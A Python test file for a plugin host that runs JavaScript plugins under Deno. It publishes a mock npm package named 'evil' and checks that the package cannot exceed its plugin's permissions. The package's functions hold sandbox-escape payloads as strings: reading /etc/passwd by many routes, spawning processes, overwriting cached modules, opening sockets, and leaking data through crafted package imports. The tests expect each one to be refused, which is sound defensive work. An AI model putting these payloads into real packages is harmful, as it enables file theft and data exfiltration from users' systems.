"""Attacks by packages that a JavaScript plugin imports. They may do what the plugin may, and no more."""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from pathlib import Path

import pytest
from msgspec.structs import replace

from cortexfs import sdk
from cortexfs.core import hostcalls
from cortexfs.core.manifestjson.fetched import CACHE, FOLDER, LOCK
from cortexfs.host.esm import permissions
from cortexfs.host.esm import tools as esm
from tests.shell import esmodules, fetched
from tests.shell.calling import serving
from tests.shell.esmodules import tried
from tests.shell.fetched import Desk, plugin
from tests.shell.moduleserver import PRIVATE, Site
from tests.shell.wat import Asked

certificates, site, desk = fetched.certificates, fetched.site, fetched.desk

# A host without Landlock has only Deno's own permissions, and these have to suffice.
KERNELS = pytest.mark.parametrize("kernel", ["with Landlock", "without"])

READS = {
    "read": "return fs.readFileSync('/etc/passwd', 'utf8')",
    "list": "return fs.readdirSync('/etc').length",
    "stat": "return fs.statSync('/etc/passwd').size",
    "required": "return require('/etc/passwd')",
    "resolve": "return require.resolve('/etc/passwd')",
    "up": "return require(__dirname + '/../'.repeat(40) + 'etc/passwd')",
    "text": "return (await import('file:///etc/passwd', {with: {type: 'text'}})).default",
    "json": "return (await import('file:///etc/passwd', {with: {type: 'json'}})).default",
    "static": "return (await import('./static.mjs')).default",
    "data": """const text = 'import s from "file:///etc/passwd" with {type: "text"}; export default s';
               return (await import('data:text/javascript,' + encodeURIComponent(text))).default""",
    "worker": """return await new Promise((done, failed) => {
                   const made = new (require('worker_threads').Worker)(__dirname + '/worker.mjs');
                   made.on('message', done); made.on('error', failed)
                 })""",
    "wasi": "return new (require('wasi').WASI)({version: 'preview1', preopens: {'/': '/'}})",
    "sqlite": "return new (require('node:sqlite').DatabaseSync)('/etc/passwd')",
    "other": "return require('OTHER/.fetched/deno/npm/secret.js')",
}
DOES = {
    "environment": "return Object.keys(process.env).length || undefined.none",
    "home": "return require('os').homedir()",
    "run": "return require('child_process').execFileSync('/bin/true').length",
    "library": "return require(__dirname + '/native.node')",
    "write": "return fs.writeFileSync(__dirname + '/new', '')",
    "own": "return fs.writeFileSync(__dirname + '/index.js', '')",
    "delete": "return fs.unlinkSync(__dirname + '/package.json')",
    "link": "return fs.symlinkSync('/etc/passwd', __dirname + '/link')",
    "net": """return await new Promise((done, failed) =>
              require('net').connect(PORT).on('connect', done).on('error', failed))""",
    "fetch": "return (await fetch('SITE/npm/evil')).status",
    "https": "return (await import('SITE/late.js')).default",
    "npm": "const name = 'npm:evil@2'; return (await import(name)).default",
    "leak": "const name = 'npm:' + Deno.build.os + '-secret'; return (await import(name)).default",
}
STATIC = 'import s from "file:///etc/passwd" with {type: "text"};'


def evil(site: Site, bodies: Mapping[str, str], other: Path) -> None:
    """Publish a package with these functions."""
    text = "const fs = require('fs');\n"
    for name, body in bodies.items():
        given = body.replace("SITE", site.base).replace("PORT", str(site.port)).replace("OTHER", str(other))
        text += f"exports.{name} = async () => {{ {given} }};\n"
    more = {
        "static.mjs": f"{STATIC} export default s;",
        "worker.mjs": f'{STATIC} import {{ parentPort }} from "worker_threads"; parentPort.postMessage(s);',
        "native.node": "\x7fELF",
    }
    site.npm("evil", {"index.js": text, **more})


def source(names: Mapping[str, str]) -> str:
    calls = {name: tried(f"return await evil.{name}()") for name in names}
    return 'import evil from "npm:evil";\n' + esmodules.source(calls)


async def answers(one: hostcalls.Plugin, names: Iterable[str], kernel: str, place: Path) -> dict[str, str]:
    """Returns the outcome of each function."""
    if kernel == "without":
        return alone(one, names)
    state = Path(one.keeps).parent.with_name("state")
    async with serving(place, state) as world:
        asked = Asked(world, one)
        return {name: await asked.said(name) for name in names}


def alone(one: hostcalls.Plugin, names: Iterable[str]) -> dict[str, str]:
    """Run the functions in this process, which closes nothing before it starts Deno."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(permissions, "confine", lambda *what: None)
        tools = {each.name: each for each in esm.tools(replace(one, keeps="")) if isinstance(each, sdk.Tool)}
        try:
            return {name: said(tools[name]) for name in names}
        finally:
            esm.drop_all()


def said(tool: sdk.Tool) -> str:
    result = tool.execute_with_runtime({}, sdk.ToolRuntime(sdk.InvocationContext("tool")))
    assert isinstance(result, sdk.ToolResult)
    return result.output


@KERNELS
async def test_a_package_has_no_more_rights_than_its_plugin(
    desk: Desk, site: Site, tmp_path: Path, place: Path, kernel: str
) -> None:
    # Of the originals, issue 6: "a package in the cache cannot read beyond what the capabilities grant"
    bodies = READS | DOES
    other = place / "other"
    (other / ".fetched" / "deno" / "npm").mkdir(parents=True)
    (other / ".fetched" / "deno" / "npm" / "secret.js").write_text("module.exports = 'secret'")
    site.page("/late.js", "export default 'late'")
    evil(site, bodies, other)
    desk.install(plugin(place / "p", source(bodies)))
    desk.said.ok("permissions", "fetching", "--private", PRIVATE)
    site.asked.clear()
    for name, said in (await answers(desk.offered(), bodies, kernel, tmp_path)).items():
        assert said.startswith("not: "), (name, said)
    assert site.asked == []


async def test_with_the_network_nothing_is_fetched_to_be_imported(
    desk: Desk, site: Site, tmp_path: Path, place: Path
) -> None:
    # Of the originals: 'import("npm:"+x) performs registry requests with no net permission (exfiltration)'
    names = {name: DOES[name] for name in ("https", "npm", "leak")}
    site.page("/late.js", "export default 'late'")
    evil(site, names | {"fetch": DOES["fetch"]}, place)
    text = source(names | {"fetch": ""})
    desk.install(plugin(place / "p", text, capabilities=["tools", "network:fetch"]))
    desk.said.ok("permissions", "fetching", "--private", PRIVATE)
    site.asked.clear()
    async with serving(tmp_path, desk.config.state) as world:
        asked = Asked(world, desk.offered())
        for name in names:
            assert (await asked.said(name)).startswith("not: "), name
    assert site.asked == []


@KERNELS
async def test_what_was_fetched_cannot_be_written(
    desk: Desk, site: Site, tmp_path: Path, place: Path, monkeypatch: pytest.MonkeyPatch, kernel: str
) -> None:
    # issue 6: "at run the host has the cache read-only"
    names = {name: DOES[name] for name in ("write", "own", "delete")}
    mine = {"mine": "fs.writeFileSync('mine', 'mine'); return 'done'"}
    evil(site, names | mine, place)
    may = ["tools", "fs:read", "fs:write"]
    desk.install(plugin(place / "p", source(names | mine), capabilities=may))
    one = desk.offered()
    before = modules(one)
    monkeypatch.chdir(place)  # a directory above the plugin's own
    found = await answers(one, names | mine, kernel, tmp_path)
    assert found.pop("mine") == "got done"
    for name, said in found.items():
        assert said.startswith("not: "), (name, said)
    # Deno's own databases may be new if the caller may write there, but no module is read from them
    assert modules(one) == before


def modules(one: hostcalls.Plugin) -> dict[str, bytes]:
    """Returns the fetched files of the directory where the plugin runs."""
    top = Path(one.path) / FOLDER
    kept = [top / LOCK, *(top / CACHE / "npm").rglob("*"), *(top / CACHE / "remote").rglob("*")]
    return {str(path): path.read_bytes() for path in kept if path.is_file()}


async def test_a_module_at_an_address_opens_no_files(
    desk: Desk, site: Site, tmp_path: Path, place: Path
) -> None:
    # Of the originals: a static import of a file, this time by a module that is not one
    address = site.page("/a.js", f"{STATIC} export default s;")
    assert "its imports cannot be fetched: " in desk.refused(
        plugin(place / "p", f'import "{address}";' + esmodules.source({"tool": ""}))
    )
    bodies = {
        "text": "const name = 'file:///etc/passwd'; return import(name, {with: {type: 'text'}})",
        "read": "return Deno.readTextFileSync('/etc/passwd')",
    }
    functions = "".join(f"export const {name} = async () => {{ {body} }};" for name, body in bodies.items())
    address = site.page("/b.js", functions)
    calls = {name: tried(f"return await far.{name}()") for name in bodies}
    desk.install(plugin(place / "p", f'import * as far from "{address}";' + esmodules.source(calls)))
    async with serving(tmp_path, desk.config.state) as world:
        asked = Asked(world, desk.offered())
        for name in bodies:
            said = await asked.said(name)
            assert said.startswith("not: "), (name, said)
